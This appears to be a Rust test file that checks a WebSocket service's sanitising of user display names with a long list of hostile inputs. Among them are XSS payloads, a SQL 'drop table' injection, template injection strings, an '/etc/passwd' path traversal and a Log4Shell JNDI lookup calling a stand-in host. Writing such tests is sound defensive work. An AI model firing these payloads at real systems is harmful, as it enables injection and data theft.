//! What people call themselves: everybody gets in, and nobody's name does harm to who reads it.

use super::case::{Case, Outcome};
use super::raw::frame;
use super::stage::Stage;

const JSON: &str = "downbeat.v1.json";

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    // What is asked for, and what must not be in what is given.
    for (name, wanted) in [
        ("empty", String::new()),
        ("spaces", " ".repeat(30)),
        ("a newline", "Ada\nadmin: hello".into()),
        (
            "a line of a log",
            "Ada\r\n2026-01-01T00:00:00Z ERROR gone".into(),
        ),
        ("a NUL", "Ada\0".into()),
        (
            "all control characters",
            (0..32_u8).map(char::from).collect(),
        ),
        (
            "the second set of control characters",
            ('\u{80}'..='\u{9f}').collect(),
        ),
        ("a colour of the terminal", "\u{1b}[31mAda\u{1b}[0m".into()),
        ("right to left", "\u{202e}nimda".into()),
        ("isolates", "\u{2066}Ada\u{2069}".into()),
        ("a mark", "\u{200f}Ada\u{200e}".into()),
        (
            "nothing to see",
            "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}".into(),
        ),
        ("a soft hyphen", "A\u{ad}da".into()),
        ("fillers", "\u{3164}\u{115f}\u{1160}\u{ffa0}".into()),
        ("braille's blank", "\u{2800}".into()),
        ("separators of lines", "A\u{2028}d\u{2029}a".into()),
        ("tags", "Ada\u{e0041}\u{e007f}".into()),
        ("selectors", "A\u{fe0f}d\u{fe00}a".into()),
        ("interlinear marks", "\u{fff9}A\u{fffa}d\u{fffb}a".into()),
        ("a joiner of graphemes", "A\u{34f}da".into()),
        ("a thousand characters", "x".repeat(1000)),
        ("3,900 bytes", "é".repeat(1950)),
        ("emoji", "🦊".repeat(40)),
        ("a tower of accents", format!("A{}", "\u{301}".repeat(60))),
        ("markup", "<script>alert(1)</script>".into()),
        ("an image", "<img src=x onerror=alert(1)>".into()),
        ("a quote", "\"'`;--".into()),
        ("a query", "'; drop table downbeat_accounts;--".into()),
        ("a template", "{{7*7}}${7*7}#{7*7}%s%n".into()),
        ("a path", "../../etc/passwd".into()),
        ("the lookup of a logger", "${jndi:ldap://evil.net/a}".into()),
        ("a name that looks like a guest's", "guest-1".into()),
        ("an end of text", "Ada\u{3}\u{4}\u{1a}".into()),
        ("private use", "\u{e000}\u{f8ff}\u{10fffd}".into()),
        ("no characters", "\u{fffe}\u{ffff}\u{10ffff}".into()),
    ] {
        cases.push(Case::new(format!("name: {name}"), &[101], move |stage| {
            harmless(stage, &wanted)
        }));
    }
    for (name, text) in [
        ("half a surrogate", r#"{"type":"hello","name":"\ud800"}"#),
        (
            "surrogates the wrong way round",
            r#"{"type":"hello","name":"\udc00\ud800"}"#,
        ),
        ("a number", r#"{"type":"hello","name":7}"#),
        ("a list", r#"{"type":"hello","name":["Ada"]}"#),
        ("an object", r#"{"type":"hello","name":{"toString":1}}"#),
        ("two names", r#"{"type":"hello","name":"Ada","name":"Bob"}"#),
        (
            "a prototype",
            r#"{"type":"hello","__proto__":{"name":"Ada"}}"#,
        ),
    ] {
        cases.push(Case::new(format!("name: {name}"), &[1007], move |stage| {
            let mut raw = stage.upgraded(&handshake()).expect("let in");
            raw.send(&frame(0x81, text.as_bytes()));
            raw.goodbye()
        }));
    }
    cases
}

fn handshake() -> String {
    super::case::HANDSHAKE.replace("downbeat.v1", JSON)
}

/// Joins under a name and looks at the one that was given.
fn harmless(stage: &Stage, wanted: &str) -> Outcome {
    let mut raw = stage.upgraded(&handshake()).expect("let in");
    let hello = serde_json::json!({"type": "hello", "name": wanted}).to_string();
    raw.send(&frame(0x81, hello.as_bytes()));
    let welcome = raw.frame().expect("a welcome");
    assert_eq!(welcome.opcode, 1, "{welcome:?}");
    let welcome: serde_json::Value = serde_json::from_slice(&welcome.payload).expect("JSON");
    let name = welcome["name"].as_str().expect("a name");
    assert!(!name.trim().is_empty(), "{wanted:?} became nothing");
    assert!(name.chars().count() <= 24, "{wanted:?} became {name:?}");
    for c in name.chars() {
        let steers = matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}');
        assert!(!c.is_control() && !steers, "{wanted:?} became {name:?}");
    }
    101
}
